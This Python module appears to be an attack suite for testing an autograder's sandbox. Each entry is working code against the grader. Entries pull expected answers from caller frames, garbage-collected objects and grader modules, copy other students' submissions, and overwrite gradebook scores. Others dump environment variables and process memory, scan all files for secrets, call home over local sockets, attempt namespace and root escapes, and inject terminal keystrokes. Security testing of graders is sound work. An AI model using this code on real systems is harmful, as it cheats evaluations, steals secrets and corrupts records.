"""Looking for secrets: frames, memory, modules, processes, files, the network."""

from .base import DESCEND, STEP, Attack

# What they look for is spelled in parts, so that they do not find themselves.
WORD = "'plan' 'ted-'"


def attack(name: str, attempts: str, *cells: str, **more) -> Attack:
    return Attack(name, attempts, cells, **more)


ATTACKS = (
    Attack(
        "frames of the caller",
        "expected values in whoever calls the function",
        answers={
            "step": "import sys\n" + STEP + "    frame, found = sys._getframe(), []\n"
            "    while frame:\n"
            "        for space in (frame.f_locals, frame.f_globals):\n"
            "            for key in ('expected', 'answers', 'reference', 'entry'):\n"
            "                found += [space[key]] if key in space else []\n"
            "        frame = frame.f_back\n"
            "    raise ValueError(repr(found))"
        },
    ),
    Attack(
        "closures of the caller",
        "expected values in closures and defaults",
        answers={
            "step": "import gc, types\n" + STEP + "    for f in gc.get_objects():\n"
            "        if not isinstance(f, types.FunctionType): continue\n"
            "        for cell in f.__closure__ or ():\n"
            "            try: value = cell.cell_contents\n"
            "            except ValueError: continue\n"
            "            if isinstance(value, dict) and 'expected' in value:\n"
            "                return value['expected']\n"
            "    raise ValueError('none')"
        },
    ),
    Attack(
        "every object",
        "the reference, or expected values, among all objects",
        answers={
            "step": "import gc, types\n" + STEP + "    for o in gc.get_objects():\n"
            "        if isinstance(o, dict) and 'expected' in o: return o['expected']\n"
            "        if (isinstance(o, types.FunctionType)\n"
            "            and o.__name__ == 'single_step_gradient_descent'\n"
            "            and o is not single_step_gradient_descent):\n"
            "            return o(theta, learning_rate)\n"
            "    raise ValueError('none')"
        },
    ),
    attack(
        "modules of the grader",
        "the reference and its secret from imported or importable modules",
        "import sys, importlib\n"
        "for name in ('gdgrader', 'gdgrader.grading.judge', 'gdgrader.exercises',\n"
        "             'gdgrader.exercises.reference', 'nbgrader.api'):\n"
        "    try: module = importlib.import_module(name)\n"
        "    except BaseException as error: print(name, type(error).__name__)\n"
        "    else: print(name, 'is here')\n"
        "try:\n"
        "    from gdgrader.exercises.reference import load_reference\n"
        "    from pathlib import Path\n"
        "    globals().update(load_reference(Path('@ROOT@/source/tiny/tiny.ipynb')))\n"
        "except BaseException as error: print(error)\n"
        "print([m for m in sys.modules if m.startswith('gdgrader')])",
        after="descend",
    ),
    attack(
        "the reference read",
        "solutions from source/, run as one's own",
        "import json\n"
        "for cell in json.load(open('@ROOT@/source/tiny/tiny.ipynb'))['cells']:\n"
        "    if 'BEGIN SOLUTION' in ''.join(cell['source']):\n"
        "        if cell['cell_type'] == 'code': exec(''.join(cell['source']))\n"
        "        print(''.join(cell['source']))",
        after="descend",
    ),
    attack(
        "answers of a neighbour",
        "another submission's functions, run as one's own",
        "import json, glob\n"
        "for path in glob.glob('@ROOT@/submitted/*/tiny/*.ipynb') + glob.glob(\n"
        "        '@ROOT@/autograded/*/tiny/*.ipynb'):\n"
        "    if '@STUDENT@' in path: continue  # its own, with this very cell\n"
        "    for cell in json.load(open(path))['cells']:\n"
        "        text = ''.join(cell['source'])\n"
        "        print(text)\n"
        "        if 'return theta' in text: exec(text)",
        after="descend",
    ),
    attack(
        "the gradebook",
        "names, scores; a better score for oneself",
        "import sqlite3\n"
        "book = sqlite3.connect('file:@ROOT@/gradebook.db?mode=rw', uri=True)\n"
        "print(book.execute('select * from student').fetchall())\n"
        "book.execute('update grade set manual_score = 7')\n"
        "book.commit()",
    ),
    attack(
        "every file",
        "secrets in whatever file can be opened",
        "import os\n"
        f"word = ({WORD}).encode()\n"
        "skip = ('/proc', '/sys', '/dev', '/usr', '/lib', '/bin', '/nix')\n"
        "for place, folders, names in os.walk('/'):\n"
        "    folders[:] = [f for f in folders if not\n"
        "                  os.path.join(place, f).startswith(skip)\n"
        "                  and f not in ('site-packages', 'lib')][:200]\n"
        "    for name in names[:500]:\n"
        "        try: text = open(os.path.join(place, name), 'rb').read(5_000_000)\n"
        "        except OSError: continue\n"
        "        if word in text:\n"
        "            at = text.index(word); print(place, name, text[at:at + 60])",
        harms="reads all of this machine's files",
    ),
    attack(
        "the environment",
        "the grader's variables: tokens, passwords",
        "import os\n"
        "print(dict(os.environ))\n"
        "for pid in ('self', os.getppid(), @PID@):\n"
        "    try: print(open(f'/proc/{pid}/environ').read().replace('\\0', ' '))\n"
        "    except OSError as error: print(error)",
    ),
    attack(
        "other processes",
        "memory, files and command lines of processes",
        "import glob, os\n"
        f"word = ({WORD}).encode()\n"
        "print(sorted(os.listdir('/proc')))\n"
        "for path in glob.glob('/proc/[0-9]*/cmdline'): print(open(path).read())\n"
        "for path in glob.glob('/proc/[0-9]*/fd/*') + glob.glob('/proc/[0-9]*/root'):\n"
        "    try: print(os.readlink(path)); os.listdir(path + '@ROOT@')\n"
        "    except OSError: pass\n"
        "for pid in ['@PID@', str(os.getppid()), '1']:\n"
        "    try: print(open(f'/proc/{pid}/mem', 'rb').read(1))\n"
        "    except OSError as error: print(error)",
        harms="reads other processes of this machine",
    ),
    attack(
        "own memory",
        "secrets that a fork inherited from the warmed process",
        f"word = ({WORD}).encode()\n"
        "for line in open('/proc/self/maps'):\n"
        "    span, mode = line.split()[:2]\n"
        "    if not mode.startswith('r') or '[v' in line: continue\n"
        "    first, last = (int(x, 16) for x in span.split('-'))\n"
        "    if last - first > 300_000_000: continue\n"
        "    try:\n"
        "        with open('/proc/self/mem', 'rb', 0) as memory:\n"
        "            memory.seek(first); text = memory.read(last - first) or b''\n"
        "    except (OSError, OverflowError): continue\n"
        "    at = text.find(word)\n"
        "    while at >= 0:\n"
        "        print(text[at:at + 60]); at = text.find(word, at + 1)",
    ),
    attack(
        "the network",
        "calls home: TCP, UDP, names, sockets of this machine",
        "import socket, urllib.request\n"
        "for host in ('127.0.0.1', 'localhost', '::1', '0.0.0.0'):\n"
        "    try: socket.create_connection((host, @PORT@), 2).send(b'@MARK@')\n"
        "    except OSError as error: print(host, error)\n"
        "udp = socket.socket(type=socket.SOCK_DGRAM)\n"
        "try: udp.sendto(b'x', ('127.0.0.1', @PORT@))\n"
        "except OSError as error: print(error)\n"
        "try: socket.create_connection(('192.0.2.1', 80), 1)\n"
        "except OSError as error: print(error)\n"
        "for path in ('@ROOT@/listener', '\\0@MARK@'):\n"
        "    try: socket.socket(socket.AF_UNIX).connect(path)\n"
        "    except OSError as error: print(error)\n"
        "try: urllib.request.urlopen('http://127.0.0.1:@PORT@/@MARK@', timeout=2)\n"
        "except OSError as error: print(error)",
        "!curl -m 2 http://127.0.0.1:@PORT@/\n%load http://127.0.0.1:@PORT@/",
    ),
    attack(
        "out of the sandbox",
        "namespaces, mounts, tracing and devices",
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "print(libc.unshare(0x10000000), libc.unshare(0x20000),\n"
        "      libc.mount(b'proc', b'/tmp', b'proc', 0, None), libc.chroot(b'/proc'),\n"
        "      libc.ptrace(16, 1, 0, 0), libc.setuid(0))\n"
        "for path in ('/dev/mem', '/dev/kmsg', '/proc/1/root@ROOT@',\n"
        "             '/sys/fs/cgroup', '/proc/sysrq-trigger',\n"
        "             '/proc/sys/kernel/core_pattern'):\n"
        "    try: print(path, open(path, 'rb').read(10))\n"
        "    except OSError as error: print(error)\n"
        "try: os.mknod('disk', 0o60666, os.makedev(8, 0)); print(open('disk', 'rb'))\n"
        "except OSError as error: print(error)",
        harms="changes the mounts of a grader that runs as root",
    ),
    Attack(
        "the public table",
        "answers of the public cases, by heart",
        answers={
            "step": "import json\n"
            "table = json.load(open('checks.json'))['exercises']\n"
            + STEP
            + "    return known('single_step_gradient_descent',\n"
            "                 [theta, learning_rate])\n"
            "def known(name, args):\n"
            "    for asked in table[name]['properties'].values():\n"
            "        for case in asked['cases']:\n"
            "            if case['args'] == args: return case['expected']['value']\n"
            "    return 0.0",
            "descend": DESCEND
            + "    return known('gradient_descent', [theta, learning_rate, num_steps])",
        },
    ),
    attack(
        "typing into terminals",
        "a command typed into the terminal of whoever grades",
        "import fcntl, os, termios\n"
        "names = [f'/dev/{n}' for n in ('tty', 'console', 'ptmx', 'tty0', 'tty1')]\n"
        "names += [f'/dev/pts/{n}' for n in range(64)]\n"
        "names += [f'/proc/{p}/fd/{n}' for p in ('self', 1, @PID@) for n in range(9)]\n"
        "for name in names:\n"
        "    try:\n"
        "        one = os.open(name, os.O_RDWR | os.O_NONBLOCK)\n"
        "        for letter in b'touch @ROOT@/@MARK@-typed\\n':\n"
        "            fcntl.ioctl(one, termios.TIOCSTI, bytes([letter]))\n"
        "    except OSError as error: print(name, error)",
    ),
)
